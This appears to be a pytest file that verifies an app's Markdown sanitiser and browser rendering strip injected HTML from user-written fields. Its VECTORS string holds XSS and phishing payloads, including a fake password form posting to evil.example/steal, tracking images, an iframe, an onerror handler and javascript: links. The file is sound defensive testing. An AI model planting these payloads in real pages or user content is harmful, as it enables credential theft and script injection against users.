"""Finding 3: HTML planted in user-written Markdown (pair goals, plans, HR comments, exercise feedback,
journal) must not render: no forms, inputs, external images, iframes, styles, event handlers, script links.
Checked in headless Chromium, where it matters."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from companion.domain import Exercise, PairProfile
from companion.rendering import safe_markdown
from companion.services import Services
from tests.ui.conftest import serve

pytestmark = pytest.mark.slow

PASSWORD = "a-long-password"
VECTORS = (
    ' <form action="https://evil.example/steal"><input type="password" name="p" placeholder="Password">'
    "<button>Sign in again</button></form>"
    ' <img src="https://evil.example/pixel.png" alt="pixel"> ![md image](https://evil.example/md.png)'
    ' <iframe src="https://evil.example/"></iframe> <span style="position:fixed;top:0;left:0">STYLED</span>'
    ' <img src="x" onerror="alert(1)"> <a href="javascript:alert(2)">js link</a> [md link](javascript:alert(3))'
    " <script>alert(4)</script>"
)


def planted(field: str) -> str:
    return f"MARK-{field}{VECTORS}"


def test_the_sanitiser_keeps_text_and_drops_every_vector():
    clean = safe_markdown(planted("x") + "\n\n**bold** and [a site](https://example.org)")
    for gone in ("<form", "<input", "<img", "<iframe", "style=", "onerror", "javascript:", "<script", "evil.example"):
        assert gone not in clean
    assert "MARK-x" in clean
    assert "**bold**" in clean
    assert "[a site](https://example.org)" in clean


@pytest.fixture(scope="module")
def planted_app(demo: Services) -> Iterator[str]:
    services = demo  # the demo programme first: it loads its pairs only into a database without accounts
    programme = services.programme
    for name, role in (("mentor.p", "mentor"), ("manager.p", "manager"), ("hr.p", "hr")):
        programme.create_user(None, name, name.title(), role, PASSWORD)
    pair = programme.create_pair(None, "mentor.p", "manager.p", goals=planted("goals"))
    mentor, manager, hr = (programme.actor(n) for n in ("mentor.p", "manager.p", "hr.p"))
    plan = services.planner.plan_session(
        PairProfile(
            language="en", goals="my manager wants to spot phishing emails and online scams", session_minutes=60
        )
    )
    # The manager's agenda is built from the plan itself (never the mentor's text), and a mentor calling the API
    # controls that JSON too: plant in both.
    plan.agenda[0].title = planted("plan")
    programme.save_plan(mentor, pair.id, plan.session_number, plan, planted("plan"), shared=True)
    [exercise] = programme.assign_exercises(
        manager, pair.id, [Exercise(title=f"Title {planted('title')}", steps=["s"], level="foundation")]
    )
    programme.complete_exercise(manager, exercise.id, planted("feedback"))
    programme.add_journal_entry(manager, pair.id, planted("journal"), shared=True)
    curriculum = services.planner.curriculum(
        PairProfile(language="en", goals="my manager wants to spot phishing emails and online scams"), 3
    )
    version = programme.submit_curriculum(mentor, pair.id, curriculum)
    programme.review_curriculum(hr, version.id, approve=False, comment=planted("comment"))
    yield from serve(services)


def check_page(page, containers: dict[str, str]) -> None:
    for field, selector in containers.items():
        box = page.locator(selector)
        box.get_by_text(f"MARK-{field}", exact=False).first.wait_for(timeout=30_000)  # the field did render
        inner = box.inner_html()
        for tag in ("form", "input", "iframe", "img", "script", "button"):
            assert box.locator(tag).count() == 0, (field, tag, inner[:500])
        assert box.locator("[style*='fixed']").count() == 0, field
        assert box.locator("span[style]", has_text="STYLED").count() == 0, field
        assert box.locator("[onerror], [onclick]").count() == 0, field
        assert box.locator("a[href^='javascript']").count() == 0, field
        assert "evil.example" not in inner, field
    assert page.locator("input[type=password]").count() == 0


def test_planted_html_does_not_render_in_chromium(browser, planted_app: str):
    requests: list[str] = []
    dialogs: list[str] = []

    def open_as(username: str):
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        page = context.new_page()
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(planted_app)
        page.locator("input").nth(0).fill(username)
        page.locator("input[type=password]").fill(PASSWORD)
        page.keyboard.press("Enter")
        page.locator("#signed-in").get_by_text(username[:1].upper(), exact=False).first.wait_for(timeout=30_000)
        return page

    manager = open_as("manager.p")
    check_page(
        manager,
        {"plan": "#manager-agenda", "feedback": "#manager-exercises", "title": "#manager-exercises",
         "journal": "#journal-list"},
    )  # fmt: skip
    mentor = open_as("mentor.p")
    check_page(mentor, {"goals": "#mentor-summary", "comment": "#mentor-history"})
    assert not dialogs
    assert not [url for url in requests if "evil.example" in url]
